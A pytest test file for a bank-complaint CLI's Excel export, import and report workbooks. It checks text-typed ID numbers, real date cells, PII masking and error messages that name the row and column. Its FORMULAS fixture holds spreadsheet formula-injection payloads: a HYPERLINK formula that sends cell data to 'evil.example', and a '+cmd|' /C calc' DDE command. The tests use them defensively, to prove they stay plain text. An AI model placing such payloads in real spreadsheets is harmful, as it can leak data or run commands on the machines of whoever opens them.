"""Excel workbooks (`--format xlsx`; docs/rules.md, Data care): `tsk export` and every report
as a real .xlsx — Chinese headings, ID numbers and phones as text cells, dates and times as
Excel dates, figures as numbers, a frozen heading row — that never holds a formula; and `tsk
import` of the export's workbook, losslessly, with each problem named by file, row and column.
Each workbook is read back cell by cell with openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import pty
import shutil
import sqlite3
import subprocess
import sys
import zipfile

import openpyxl
import pytest
from helpers import Live, one_error_line
from typer.testing import CliRunner

from tsk import fields
from tsk.cli import app
from tsk.exchange.workbook import column_letter
from tsk.render import workbook

RECEIVED = "2026-08-03 10:00"
ID_NUMBER = "440106198503121237"  # what a spreadsheet would make 4.40106198503121e+17
ID_X = "11010519491231002X"
BASE = ["--customer", "张三", "--channel", "phone", "--category", "service", "--business-type", "card",
        "--cause", "service-quality", "--unit", "城关支行", "--received", RECEIVED]
# Text a spreadsheet would run, take for an error value, or mangle: each must come back as it was.
FORMULAS = {"summary": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "demand": "+cmd|' /C calc'!A0",
            "customer": "@SUM(1+1)", "unit": "-2+3", "subject-staff": "'=已是引号", "referral-ref": "#N/A"}
AWKWARD = "一\r\n二\r三\x01_x0041_ \t四"  # a CR (XML reads it as LF), a control character, OOXML's own escape


@pytest.fixture
def tsk(tsk, monkeypatch):
    """Each command entered when it happened (helpers.Live): lateness is a fact of when a command
    is entered, and these tests are about workbooks."""
    return Live(monkeypatch, tsk)


def add(tsk, *extra: str) -> str:
    run = tsk(["add", *BASE, *extra])
    assert run.exit_code == 0, run.stderr
    return run.stdout.split()[0]


@pytest.fixture
def filled(tsk):
    """Four complaints: PII, an extension and a closing with compensation, a group one, and
    one whose every text is a formula or awkward."""
    a = add(tsk, "--phone", "13812345678", "--id-number", ID_NUMBER, "--email", "zhang.san@example.cn",
            "--address", "广东省广州市天河区体育西路103号", "--summary", "多收年费\n第二行", "--demand", AWKWARD)
    b = add(tsk, "--summary", "群体投诉", "--group-size", "6", "--severity", "major", "--conflict", "王五",
            "--id-number", ID_X, "--phone", "+8613812345678")
    c = add(tsk, *[f"--{key}={value}" for key, value in FORMULAS.items()], "--channel", "regulator",
            "--referred-by", "人民银行")
    d = add(tsk, "--summary", "撤回的", "--direct")
    for argv in (["assign", a, "--to", "李四", "--unit", "个金部"],
                 ["extend", a, "--days", "3", "--reason", "复杂", "--notified-via", "sms"],
                 ["close", a, "--result", "partly", "--resolution", "退还年费", "--notified-via", "phone",
                  "--compensation", "19.99", "--root-cause", "系统参数", "--rectification", "修改参数",
                  "--satisfaction", "fair", "--at", "2026-08-20 15:30"],
                 ["withdraw", d, "--reason", "客户撤回"]):
        assert tsk(argv).exit_code == 0, argv
    return [a, b, c, d]


def export_xlsx(tsk, path, *args: str, db: str | None = None):
    run = tsk([*(["--db", db] if db else []), "export", "--format", "xlsx", *args, "-o", str(path)])
    assert run.exit_code == 0, run.stderr
    return openpyxl.load_workbook(path)


def records(ws) -> list[dict]:
    """The sheet's rows as {heading: cell}."""
    rows = list(ws.iter_rows())
    headings = [c.value for c in rows[0]]
    return [dict(zip(headings, row)) for row in rows[1:]]


LABEL = {f.name: f.label for f in fields.FIELDS}


# -- the export's workbook -----------------------------------------------------------------------
def test_the_export_is_a_workbook_with_chinese_headings_text_ids_and_real_dates(tsk, tmp_path, filled):
    book = export_xlsx(tsk, tmp_path / "all.xlsx", "--show-pii")
    assert book.sheetnames == [workbook.EXPORT_SHEET]
    ws = book.active
    assert [c.value for c in ws[1]] == [f.label for f in fields.FIELDS]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:{column_letter(len(fields.FIELDS) - 1)}5"
    a, b, c, d = records(ws)
    assert [r["编号"].value for r in (a, b, c, d)] == filled
    for cell, text in ((a[LABEL["customer_id_number"]], ID_NUMBER), (b[LABEL["customer_id_number"]], ID_X),
                       (a[LABEL["customer_phone"]], "13812345678"), (b[LABEL["customer_phone"]], "+8613812345678")):
        assert (cell.value, cell.data_type, cell.number_format) == (text, "s", "@")  # text, never 4.40106198503121e+17
    received = a[LABEL["received_at"]]
    assert (received.value, received.data_type, received.number_format) == (dt.datetime(2026, 8, 3, 10, 0), "d",
                                                                              "yyyy-mm-dd hh:mm:ss")
    assert a[LABEL["closed_at"]].value == dt.datetime(2026, 8, 20, 15, 30)  # China time, as stored (+08:00)
    due = a[LABEL["due"]]
    assert (due.value, due.number_format) == (dt.datetime(2026, 8, 27), "yyyy-mm-dd") and due.is_date
    money = a[LABEL["compensation"]]
    assert (money.value, money.data_type, money.number_format) == (19.99, "n", "0.00")
    assert (b[LABEL["level"]].value, b[LABEL["group_size"]].value, d[LABEL["direct"]].value) == (3, 6, 1)
    assert b[LABEL["flags"]].value == "group;major;emergency" and b[LABEL["conflicts"]].value == '["王五"]'
    assert a[LABEL["summary"]].value == "多收年费\n第二行" and a[LABEL["customer_email"]].value == "zhang.san@example.cn"
    assert a[LABEL["report_due"]].value is None  # null is an empty cell
    widths = {column_letter(i): ws.column_dimensions[column_letter(i)].width for i in range(len(fields.FIELDS))}
    assert widths["A"] >= len("TS-2026-000001") and widths[column_letter(fields.EXPORT_FIELDS.index("customer_id_number"))] >= 18
    assert all(8 <= width <= workbook.MAX_WIDTH + 2 for width in widths.values())


def test_a_workbook_is_masked_unless_show_pii_which_is_recorded(tsk, tmp_path, ledger_path, filled):
    (a, b, *_) = records(export_xlsx(tsk, tmp_path / "masked.xlsx").active)
    assert (a[LABEL["customer_phone"]].value, a[LABEL["customer_id_number"]].value) == ("138****5678", "440***********1237")
    assert (a[LABEL["customer_email"]].value, a[LABEL["customer_address"]].value) == ("z***@example.cn", "广东省广州市****")
    with sqlite3.connect(ledger_path) as db:
        assert db.execute("SELECT count(*) FROM audit WHERE action = 'export-pii'").fetchone()[0] == 0
    export_xlsx(tsk, tmp_path / "pii.xlsx", "--show-pii", "--status", "open")
    with sqlite3.connect(ledger_path) as db:
        (details,) = db.execute("SELECT details FROM audit WHERE action = 'export-pii'").fetchone()
    assert json.loads(details)["format"] == "xlsx" and json.loads(details)["count"] == 2


def test_no_text_ever_becomes_a_formula_or_an_error_value(tsk, tmp_path, filled):
    path = tmp_path / "all.xlsx"
    (_, _, c, _) = records(export_xlsx(tsk, path, "--show-pii").active)
    for option, value in FORMULAS.items():
        cell = c[LABEL[{"customer": "customer_name"}.get(option, option.replace("-", "_"))]]
        assert (cell.value, cell.data_type) == (value, "s"), option
        assert cell.quotePrefix, option  # Excel's leading ': an officer's edit keeps it text
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet and 't="e"' not in sheet
    # openpyxl's own default, which the writer must not fall into: a str starting "=" is a formula.
    plain = openpyxl.Workbook().active
    plain["A1"] = FORMULAS["summary"]
    assert plain["A1"].data_type == "f"


@pytest.mark.parametrize("text", ["=1", "+", "@x", "#N/A", "\rx", "a\x00b\x1f", "_x0041_", "_x005F_", "_X00zz_",
                                  "\ufffe", "😀 投诉", "", "x" * 10_000])
def test_escaping_for_a_cell_is_undone_exactly(text):
    written = workbook.escape(text)
    assert workbook.unescape(written) == text
    assert not any(ch in written for ch in "\r\x00\x01\x1f\ufffe")


def test_column_letters():
    assert [column_letter(i) for i in (0, 25, 26, 51, 52, 701, 702)] == ["A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"]


# -- the round trip -----------------------------------------------------------------------------------
def cells(path) -> list[list[tuple]]:
    """Every cell of the export sheet as (value, data type, number format)."""
    ws = openpyxl.load_workbook(path)[workbook.EXPORT_SHEET]
    return [[(c.value, c.data_type, c.number_format) for c in row] for row in ws.iter_rows()]


def test_an_exported_workbook_imported_into_an_empty_ledger_exports_again_the_same(tsk, tmp_path, filled):
    first = tmp_path / "first.xlsx"
    export_xlsx(tsk, first, "--show-pii")
    other = str(tmp_path / "other.db")
    run = tsk(["--db", other, "import", str(first)])
    assert run.exit_code == 0, run.stderr
    assert run.stdout == f"imported 4 complaint(s) from {first}\n"
    second = tmp_path / "second.xlsx"
    export_xlsx(tsk, second, "--show-pii", db=other)
    assert cells(second) == cells(first)
    for args in (["-f", "jsonl"], []):  # and the same records, byte for byte, as JSON and as CSV
        assert tsk(["--db", other, "export", "--show-pii", *args]).stdout == tsk(["export", "--show-pii", *args]).stdout
    assert tsk(["--db", other, "verify"]).stdout.startswith("ok: 4 complaint(s), 4 event(s)")
    written = records(openpyxl.load_workbook(first).active)[0][LABEL["demand"]].value
    assert "_x000D_" in written and workbook.unescape(written) == AWKWARD  # a CR as Excel writes it


def test_a_workbook_comes_in_on_standard_input(tsk, tmp_path, filled):
    export_xlsx(tsk, tmp_path / "all.xlsx", "--show-pii")
    other = str(tmp_path / "other.db")
    run = CliRunner().invoke(app, ["--db", other, "import", "-"], input=(tmp_path / "all.xlsx").read_bytes())
    assert run.exit_code == 0, run.stderr
    assert run.stdout == "imported 4 complaint(s) from stdin\n"


def test_a_masked_workbook_cannot_be_imported(tsk, tmp_path, filled):
    export_xlsx(tsk, tmp_path / "masked.xlsx")
    lines = import_refused(tsk, tmp_path, tmp_path / "masked.xlsx")
    assert lines[0] == (
        f"Error: {tmp_path / 'masked.xlsx'} row 2, column L 联系电话 (customer_phone): '138****5678' is masked: this "
        "file was exported without --show-pii and cannot be imported without losing the customer's data; export it "
        "again with --show-pii")


# -- a workbook an officer made or edited --------------------------------------------------------------
def officer_book(path, headings, *rows, title="Sheet1") -> None:
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = title
    ws.append(headings)
    for row in rows:
        ws.append(row)
    book.save(path)


HEADINGS = ["编号", "受理时间", "渠道", "类别", "业务类型", "投诉原因", "客户姓名", "联系电话", "被投诉单位", "投诉内容"]


def row(n: int, **given):
    values = {"编号": f"TS-2026-{n:06d}", "受理时间": dt.datetime(2026, 8, 3, 9, 30), "渠道": "电话", "类别": "服务类",
              "业务类型": "银行卡", "投诉原因": "其他", "客户姓名": "王五", "联系电话": 13812345678, "被投诉单位": "城关支行",
              "投诉内容": f"第{n}件"}
    values.update(given)
    return [values[h] for h in HEADINGS]


def test_an_officers_workbook_with_typed_dates_numbers_and_english_headings_imports(tsk, tmp_path):
    path = tmp_path / "typed.xlsx"
    english = [fields.BY_NAME[name].name for name in ("ref", "received_at")] + HEADINGS[2:]
    officer_book(path, english, row(1), [], row(2, 受理时间=dt.date(2026, 8, 4)), [None] * len(HEADINGS))
    run = tsk(["import", str(path)])
    assert run.exit_code == 0, run.stderr
    got = [json.loads(line) for line in tsk(["export", "--show-pii", "-f", "jsonl"]).lines]
    assert [(r["ref"], r["received_at"], r["customer_phone"], r["channel"]) for r in got] == [
        ("TS-2026-000001", "2026-08-03T09:30:00+08:00", "13812345678", "phone"),
        ("TS-2026-000002", "2026-08-04T00:00:00+08:00", "13812345678", "phone")]


def import_refused(tsk, tmp_path, path) -> list[str]:
    """Import into a new ledger: refused, every line an Error, nothing written."""
    other = str(tmp_path / "refused.db")
    assert tsk(["--db", other, "init"]).exit_code == 0
    run = tsk(["--db", other, "import", str(path)])
    assert run.exit_code == 1 and run.stdout == "" and "Traceback" not in run.stderr
    lines = run.stderr.splitlines()
    assert lines and all(line.startswith("Error: ") for line in lines)
    with sqlite3.connect(other) as db:
        assert db.execute("SELECT count(*) FROM complaint").fetchone()[0] == 0
        assert db.execute("SELECT count(*) FROM event").fetchone()[0] == 0
    return lines


def test_bad_values_are_named_by_file_row_and_column(tsk, tmp_path):
    path = tmp_path / "bad.xlsx"
    officer_book(path, HEADINGS, row(1), row(2, 渠道="tel"), row(3, 联系电话=4.40106198503121e17),
                 row(4, 投诉内容="=A1&B1"), row(5, 受理时间="昨天下午"), row(6, 类别=dt.datetime(2026, 1, 1)))
    book = openpyxl.load_workbook(path)
    book.active["J5"].value = "=A1&B1"  # a real formula, as Excel holds one
    book.save(path)
    lines = import_refused(tsk, tmp_path, path)
    rounded = fields.mask_phone(str(int(4.40106198503121e17)))
    assert lines[0].startswith(f"Error: {path} row 3, column C 渠道 (channel): 'tel' is not one of: phone (电话)")
    assert lines[1] == (f"Error: {path} row 4, column H 联系电话 (customer_phone): '{rounded}' is a number "
                        "with more digits than a spreadsheet keeps (its last ones are lost): enter it as text")
    assert lines[2] == (f"Error: {path} row 5, column J 投诉内容 (summary): a formula ('=A1&B1'), not a value: tsk "
                        "imports values (copy the cells and paste them as values)")
    assert lines[3].startswith(f"Error: {path} row 6, column B 受理时间 (received_at): '昨天下午' is not a date and time")
    assert lines[4] == (f"Error: {path} row 7, column D 类别 (category): a date and time (2026-01-01 00:00) where "
                        "text is expected")
    assert lines[-1] == f"Error: 5 problem(s) in {path}; nothing was imported"


def test_a_value_past_the_headings_and_a_ref_twice_are_named(tsk, tmp_path):
    path = tmp_path / "bad.xlsx"
    officer_book(path, HEADINGS, row(1), [*row(2), None, "多余"], row(1))
    lines = import_refused(tsk, tmp_path, path)
    assert lines[:2] == [f"Error: {path} row 3: a value in column L, past the last heading",
                         f"Error: {path} row 4, column A 编号 (ref): TS-2026-000001 appears twice in the file (first at row 2)"]


@pytest.mark.parametrize("case", ["garbage", "zip", "xls", "title row", "unknown heading", "blank heading", "empty"])
def test_a_file_that_is_not_an_export_workbook_is_one_error(tsk, tmp_path, case):
    path = tmp_path / f"{case}.xlsx"
    expected = {
        "garbage": f"{path} is not an Excel workbook (.xlsx) tsk can read: File is not a zip file",
        "zip": f"{path} is not an Excel workbook (.xlsx) tsk can read: ",
        "xls": f"{path} is an Excel 97-2003 (.xls) or password-protected workbook, which tsk cannot read",
        "title row": f"{path} row 1: expected the headings of an export (编号, 状态, 类型… or ref, status, kind…), "
                     "not '2026年客户投诉台账'",
        "unknown heading": f"{path} row 1, field 颜色: not an export column",
        "blank heading": f"{path} row 1, column C: no heading",
        "empty": f"{path} row 1 is empty: expected the headings of an export",
    }[case]
    if case == "garbage":
        path.write_bytes(b"ref,status\nTS-2026-000001,open\n")
    elif case == "zip":
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("hello.txt", "not a workbook")
    elif case == "xls":
        path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    elif case == "title row":
        officer_book(path, ["2026年客户投诉台账"], HEADINGS, row(1))
    elif case == "unknown heading":
        officer_book(path, [*HEADINGS, "颜色"], row(1))
    elif case == "blank heading":
        officer_book(path, [*HEADINGS[:2], None, *HEADINGS[2:]], row(1))
    else:
        officer_book(path, [])
    lines = import_refused(tsk, tmp_path, path)
    assert lines[0].startswith(f"Error: {expected}"), lines


def test_the_export_sheet_is_found_among_others_and_problems_name_it(tsk, tmp_path, filled):
    path = tmp_path / "all.xlsx"
    export_xlsx(tsk, path, "--show-pii")
    book = openpyxl.load_workbook(path)
    book.create_sheet("说明", 0).append(["汇总"])
    book[workbook.EXPORT_SHEET]["D3"] = "pigeon"  # the second complaint's channel
    book.save(path)
    lines = import_refused(tsk, tmp_path, path)
    assert lines[0].startswith(f"Error: {path} sheet {workbook.EXPORT_SHEET} row 3, column D 渠道 (channel): 'pigeon'")


# -- the reports -------------------------------------------------------------------------------------
def report_book(tsk, tmp_path, *argv: str):
    path = tmp_path / "report.xlsx"
    run = tsk(["report", *argv, "--format", "xlsx", "-o", str(path)])
    assert run.exit_code == 0, run.stderr
    assert run.stdout == ""
    return openpyxl.load_workbook(path)


def test_half_year_workbook_has_the_documents_tables_and_every_figure(tsk, tmp_path, filled):
    book = report_book(tsk, tmp_path, "half-year", "2026H2", "--as-of", "2026-09-30")
    assert book.sheetnames[:3] == ["报告", "一、总体情况", "（一）按投诉类型"] and book.sheetnames[-1] == "数据"
    assert book.properties.title == "2026年下半年客户投诉统计分析报告"
    notes = [r[0] for r in book["报告"].iter_rows(values_only=True)]
    assert notes[0] == "2026年下半年客户投诉统计分析报告" and "八、统计口径说明" in notes
    overview = list(book["一、总体情况"].iter_rows(values_only=True))
    assert overview[:2] == [("项目", "件数", "占比"), ("收到投诉", 4, None)]
    kinds = book["（一）按投诉类型"]
    assert kinds.freeze_panes == "A2" and kinds["B2"].value == 4 and kinds["C2"].number_format == "0.0%"
    assert kinds["C2"].value == 1.0  # 100.0%: a number, not the text "100.0%"
    data = list(book["数据"].iter_rows(values_only=True))
    assert data[0] == ("部分", "键", "项目", "数值")
    assert ("totals", "received", "收到投诉", 4) in data and ("compensation", "total", "补偿金额合计（元）", 19.99) in data


def test_stats_workbook_is_the_table_with_its_total_and_rates(tsk, tmp_path, filled):
    book = report_book(tsk, tmp_path, "stats", "--since", "2026-08-01", "--until", "2026-08-31", "--by", "category",
                       "--as-of", "2026-08-31")
    assert book.sheetnames == ["投诉统计", "报告"]
    ws = book["投诉统计"]
    assert [c.value for c in ws[1]] == ["投诉类别", "收到", "办结", "按时办结", "按时率", "逾期未结", "平均处理工作日"]
    assert [c.value for c in ws[2]][:4] == ["服务类", 4, 1, 1]
    assert (ws["E2"].value, ws["E2"].number_format) == (1.0, "0.0%")
    assert [c.value for c in ws[ws.max_row]][:2] == ["合计", 4]
    assert [r[0] for r in book["报告"].iter_rows(values_only=True)] == [
        "投诉统计 2026-08-01 至 2026-08-31（按投诉类别）", "逾期未结截至 2026-08-31；按时 = 办结不晚于处理时限（含延期）"]


@pytest.mark.parametrize("by", [None, "category"])
def test_trend_workbook_has_a_month_a_row_and_its_chart(tsk, tmp_path, filled, by):
    book = report_book(tsk, tmp_path, "trend", "--months", "3", "--until", "2026-09-15", *(["--by", by] if by else []))
    ws = book["趋势"]
    rows = list(ws.iter_rows(values_only=True))
    if by:
        assert rows[0][0] == "月份" and rows[0][-1] == "合计" and "服务类" in rows[0]
    else:
        assert rows[0] == ("月份", "件数")
    assert [r[0] for r in rows[1:]] == [dt.datetime(2026, 7, 1), dt.datetime(2026, 8, 1), dt.datetime(2026, 9, 1)]
    assert [r[-1] for r in rows[1:]] == [0, 4, 0]
    assert ws["A2"].number_format == "yyyy-mm"
    with zipfile.ZipFile(tmp_path / "report.xlsx") as archive:
        assert any(name.startswith("xl/charts/chart") for name in archive.namelist())


def test_a_report_in_any_format_goes_to_o_whole(tsk, tmp_path, filled):
    path = tmp_path / "r.md"
    run = tsk(["report", "half-year", "2026H2", "--as-of", "2026-09-30", "--format", "md", "-o", str(path)])
    assert run.exit_code == 0 and run.stdout == ""
    assert path.read_text(encoding="utf-8") == tsk(["report", "half-year", "2026H2", "--as-of", "2026-09-30",
                                                    "--format", "md"]).stdout
    assert oct(path.stat().st_mode & 0o777) == "0o600"


# -- where a workbook may go, and without openpyxl ------------------------------------------------------
def tsk_process(argv, **kwargs):
    return subprocess.run([sys.executable, "-m", "tsk", *argv], env={**os.environ, "COLUMNS": "100"}, timeout=120,
                          **kwargs)


@pytest.mark.parametrize("argv", [["export", "--format", "xlsx"], ["report", "stats", "-f", "xlsx"],
                                  ["export", "--format", "xlsx", "-o", "-"]], ids=" ".join)
def test_a_workbook_is_refused_on_a_terminal_and_written_to_a_pipe(tsk, filled, argv):
    leader, follower = pty.openpty()
    try:
        refused = tsk_process(argv, stdout=follower, stderr=subprocess.PIPE, text=True)
    finally:
        os.close(follower)
        os.close(leader)
    assert refused.returncode == 2
    assert refused.stderr == ("Error: --format xlsx writes an Excel workbook, which a terminal cannot show: "
                                       "give -o FILE.xlsx (or redirect standard output to a file)\n")
    piped = tsk_process(argv, capture_output=True)
    assert piped.returncode == 0, piped.stderr
    assert openpyxl.load_workbook(io.BytesIO(piped.stdout)).sheetnames[0] in (workbook.EXPORT_SHEET, "投诉统计")


@pytest.fixture
def no_openpyxl(monkeypatch):
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # `import openpyxl` raises ImportError


@pytest.mark.parametrize("argv", [["export", "--format", "xlsx", "--show-pii"], ["report", "half-year", "2026H2", "-f", "xlsx"],
                                  ["report", "stats", "-f", "xlsx"], ["report", "trend", "-f", "xlsx"]], ids=" ".join)
def test_without_openpyxl_a_workbook_is_one_error_saying_how_to_install_it(tsk, tmp_path, ledger_path, filled,
                                                                           no_openpyxl, argv):
    path = tmp_path / "out.xlsx"
    run = tsk([*argv, "-o", str(path)])
    assert run.exit_code == 1
    assert one_error_line(run) == ("Error: an Excel workbook (xlsx) needs the openpyxl package, which is not "
                                   "installed: pip install 'tsk[xlsx]'")
    assert not path.exists() and os.listdir(tmp_path).count("out.xlsx") == 0
    with sqlite3.connect(ledger_path) as db:  # nothing recorded for an export that did not happen
        assert db.execute("SELECT count(*) FROM audit WHERE action = 'export-pii'").fetchone()[0] == 0


def test_without_openpyxl_a_workbook_import_is_one_error(tsk, tmp_path, filled, monkeypatch):
    export_xlsx(tsk, tmp_path / "all.xlsx", "--show-pii")
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    assert tsk(["--db", str(tmp_path / "other.db"), "init"]).exit_code == 0
    run = tsk(["--db", str(tmp_path / "other.db"), "import", str(tmp_path / "all.xlsx")])
    assert run.exit_code == 1
    assert one_error_line(run).endswith("pip install 'tsk[xlsx]'")


def test_excel_csv_and_a_workbook_do_not_mix(tsk, filled):
    run = tsk(["export", "--format", "xlsx", "--excel", "-o", "x.xlsx"])
    assert run.exit_code == 2
    assert one_error_line(run) == "Error: --excel applies to CSV only (a workbook never holds a formula)"


# -- streaming -----------------------------------------------------------------------------------------
def test_a_large_workbook_is_written_as_its_rows_are_read(tmp_path):
    """Write-only mode: each row goes to disk as it comes, so memory does not grow with the rows."""
    import tracemalloc

    seen = []

    def rows(n):
        for i in range(n):
            if i in (2_000, 12_000):
                seen.append(tracemalloc.get_traced_memory()[0])
            yield {"ref": f"TS-2026-{i:06d}", "id": ID_NUMBER, "due": "2026-08-27", "n": i}

    columns = [workbook.Col("ref", "编号", workbook.TEXT), workbook.Col("id", "证件号码", workbook.DIGITS),
               workbook.Col("due", "处理时限", workbook.DATE), workbook.Col("n", "件数", workbook.NUMBER)]
    tracemalloc.start()
    try:
        with open(tmp_path / "big.xlsx", "wb") as out:
            assert workbook.save([workbook.Sheet("大", columns, rows(12_001))], out) == 12_001
    finally:
        tracemalloc.stop()
    assert seen[1] - seen[0] < 1_000_000  # bytes, for 10,000 more rows
    ws = openpyxl.load_workbook(tmp_path / "big.xlsx", read_only=True)["大"]
    last = list(ws.iter_rows(min_row=12_002, max_row=12_002, values_only=True))[0]
    assert last[:2] == ("TS-2026-012000", ID_NUMBER)


# -- LibreOffice, where it is installed ------------------------------------------------------------------
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_the_id_numbers_digit_for_digit(tsk, tmp_path, filled):
    export_xlsx(tsk, tmp_path / "all.xlsx", "--show-pii")
    subprocess.run(["soffice", "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(tmp_path / "all.xlsx")],
                   check=True, capture_output=True, timeout=300, env={**os.environ, "HOME": str(tmp_path)})
    with open(tmp_path / "all.csv", encoding="utf-8", newline="") as converted:
        rows = list(csv.reader(converted))
    column = rows[0].index(LABEL["customer_id_number"])
    assert [r[column] for r in rows[1:3]] == [ID_NUMBER, ID_X]


def test_a_text_too_long_for_a_cell_once_written_out_is_one_error_and_leaves_nothing_behind(tmp_path, monkeypatch):
    import gc

    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    from tsk.errors import TskError

    complaints = [{"ref": "TS-2026-000001", "demand": "短"}, {"ref": "TS-2026-000002", "demand": "\x01" * fields.MAX_TEXT}]
    ignored = []  # what Python would print as "Exception ignored in: …" (a half-written sheet's writer)
    monkeypatch.setattr(sys, "unraisablehook", ignored.append)
    columns = [workbook.Col("ref", "编号"), workbook.Col("demand", "客户诉求")]
    with open(tmp_path / "x.xlsx", "wb") as out, pytest.raises(TskError, match="TS-2026-000002: demand is too long"):
        workbook.save([workbook.Sheet("投诉台账", columns, iter(complaints))], out)  # 7 characters each, written out
    gc.collect()
    assert ignored == []
    assert not any(os.path.exists(path) for path in ALL_TEMP_FILES)  # the rows written so far, gone


def test_a_figure_shown_as_text_is_a_number_in_a_workbook():
    from tsk.render.report_workbooks import figure

    assert [figure(v) for v in ("97.5%", "3.5", "12", "—", "占收到 97.5%", 7, None)] == [
        0.975, 3.5, 12, "—", "占收到 97.5%", 7, None]
    assert isinstance(figure("97.5%"), workbook.Percent) and not isinstance(figure("3.5"), workbook.Percent)
